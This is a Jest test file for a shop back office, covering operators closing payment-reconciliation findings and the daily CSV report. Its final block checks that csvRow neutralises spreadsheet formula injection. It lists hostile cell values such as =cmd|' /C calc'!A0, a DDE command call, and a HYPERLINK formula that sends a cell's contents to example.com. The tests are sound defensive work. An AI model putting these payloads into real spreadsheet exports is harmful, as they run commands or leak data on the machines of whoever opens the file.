import { beforeEach, describe, expect, test } from '@jest/globals';
import { csvRow } from '../../cloudfunctions/lib/payment/csv-row';
import { buyerA, data, refusedWith, secondOperator } from '../support/memory-shop';
import { nightShop, TODAY } from '../support/night-shop';

let night: ReturnType<typeof nightShop>;
beforeEach(() => {
  night = nightShop();
});

const list = async (more: object = {}) =>
  data<'findings'>(await night.shop.call.backoffice({ action: 'findings', ...more })).findings;

describe('an operator', () => {
  beforeEach(async () => {
    const sold = await night.shop.sell();
    const nobody = { outTradeNo: 'nobody', transactionId: '4200' };
    night.bill(TODAY, [night.rowOf(sold), night.rowOf(sold, nobody), night.rowOf(sold)]);
    await night.morning();
  });

  test('sees what was found, of one status or of all', async () => {
    const [unknown] = await list({ status: 'ESCALATED' });
    expect(await list()).toHaveLength(2);
    expect(await list({ status: 'OPEN' })).toEqual([]);
    expect(await list({ before: 1 })).toEqual([]);
    expect((await list()).find(({ kind }) => kind === 'unknown-order')).toEqual({
      ...{ id: `${TODAY}:unknown-order:4200`, date: TODAY, kind: 'unknown-order', status: 'ESCALATED' },
      ...{ outTradeNo: 'nobody', transactionId: '4200', theirs: 1280, endedBy: 'clock' },
      ...{ createdAt: unknown?.createdAt, endedAt: unknown?.endedAt },
    });
    const { waiting } = data<'summary'>(await night.shop.call.backoffice({ action: 'summary' }));
    expect(waiting.findings).toBe(2);
  });

  test('ends what he has looked into, once, and is remembered for it', async () => {
    const id = `${TODAY}:unknown-order:4200`;
    const close = (caller = secondOperator) => night.shop.call.backoffice({ action: 'closeFinding', id }, caller);
    expect(await close(buyerA)).toEqual(refusedWith('ERR_FORBIDDEN'));
    night.shop.wait(1000);
    const { finding } = data<'closeFinding'>(await close());
    expect(finding).toMatchObject({ status: 'OK', endedBy: 'operator', endedAt: night.shop.now });
    expect(night.findings().find(({ _id }) => _id === id)).toMatchObject({ endedBy: 'oOperator2' });
    night.shop.wait(1000);
    expect(data<'closeFinding'>(await night.shop.call.backoffice({ action: 'closeFinding', id })).finding).toEqual(
      finding,
    );
    expect(await list({ status: 'ESCALATED' })).toHaveLength(1);
  });

  test('does not hear of it again when the night comes again', async () => {
    const id = `${TODAY}:unknown-order:4200`;
    await night.shop.call.backoffice({ action: 'closeFinding', id });
    const alerts = night.alerts();
    night.shop.wait(3_600_000);
    await night.shop.tick();
    expect(night.findings().find(({ _id }) => _id === id)).toMatchObject({ status: 'OK' });
    expect(night.alerts()).toEqual(alerts);
  });
});

describe('the report of a day', () => {
  const report = async (date = TODAY) =>
    data<'report'>(await night.shop.call.backoffice({ action: 'report', date })).csv;

  test('has the sums, every payment, every refund and every difference', async () => {
    const sold = await night.shop.sell('a');
    night.shop.wait(60_000);
    await night.shop.sell('b');
    const { outRefundNo } = night.shop.wechat.refundInConsole(sold, 305);
    await night.shop.notify({ kind: 'refund', id: 'e', refund: night.shop.wechat.refunds.get(outRefundNo) as never });
    night.bill(TODAY, [night.rowOf(sold), night.refundRowOf(outRefundNo)]);
    await night.morning();
    const [second] = night.shop.database.all('payments').slice(1);
    expect((await report()).split('\r\n')).toEqual([
      `"日期","${TODAY}"`,
      '"账单","账单已核对"',
      '"账目收款","2","25.60"',
      '"账目退款（按退到买家的时间）","1","3.05"',
      '"账单收款","","12.80"',
      '"账单退款（按受理的时间）","","3.05"',
      '',
      '"收款时间","商户订单号","微信支付单号","金额（元）"',
      `"2026-12-10 10:00:00","${sold}","4200000000000000000000000001","12.80"`,
      `"2026-12-10 10:01:00","${second?.outTradeNo}","${second?._id}","12.80"`,
      '',
      '"退款时间","商户订单号","商户退款单号","金额（元）"',
      `"2026-12-10 10:01:00","${sold}","${outRefundNo}","3.05"`,
      '',
      '"差异","状态","商户订单号","单号","账目（元）","账单（元）"',
      `"店里已收款，账单里没有","正在查询","${second?.outTradeNo}","${second?._id}","12.80",""`,
      '',
    ]);
  });

  test('of a day that has not been compared says so', async () => {
    expect(await report('2026-12-01')).toContain('"账单","账单还没有取到"');
  });

  test('names at most 1500 lines of a kind, and still adds up all of them', async () => {
    const dayBegan = Date.parse(`${TODAY}T00:00:00+08:00`);
    await night.shop.database.transaction(async (transaction) => {
      for (let i = 0; i < 1600; i++) {
        const payment = { _id: `4200${i}`, outTradeNo: `n${i}`, amount: 100, paidAt: dayBegan + i };
        await transaction.create('payments', payment as never);
      }
    });
    const csv = await report();
    expect(csv).toContain('"账目收款","1600","1600.00"');
    expect(csv).toContain('"另有 100 行没有列出，合计已包含在上面"');
    expect(csv.length).toBeLessThan(500_000);
  });
});

describe('[T41] [S9] a cell', () => {
  test.each([
    ['=1+1', `"'=1+1"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['=HYPERLINK("https://example.com?"&A1)', `"'=HYPERLINK(""https://example.com?""&A1)"`],
    ['=IMPORTXML("https://example.com","//a")', `"'=IMPORTXML(""https://example.com"",""//a"")"`],
    ['=DDE("cmd";"/C calc";"1")', `"'=DDE(""cmd"";""/C calc"";""1"")"`],
    ['==1', `"'==1"`],
    ["=''", `"'=''"`],
    ['+1', `"'+1"`],
    ['+=1', `"'+=1"`],
    ['+cmd|x', `"'+cmd|x"`],
    ['-1', `"'-1"`],
    ['-2+3+cmd', `"'-2+3+cmd"`],
    ['--1', `"'--1"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['＝1', `"'＝1"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠A', `"'＠A"`],
    ['"', '""""'],
    ['",=1+1,"', '""",=1+1,"""'],
    ['a"\r\n=1', '"a""\r\n=1"'],
    [';=1', '";=1"'],
    [',', '","'],
    ['', '""'],
    ['12.80', '"12.80"'],
    ['红富士=苹果', '"红富士=苹果"'],
    ["'=1", `"'=1"`],
  ])('%j is written as %s', (cell, written) => {
    expect(csvRow([cell])).toBe(`${written}\r\n`);
  });

  test('stays one cell of its row', () => {
    expect(csvRow(['a', 'b,c', 'd"'])).toBe('"a","b,c","d"""\r\n');
  });
});
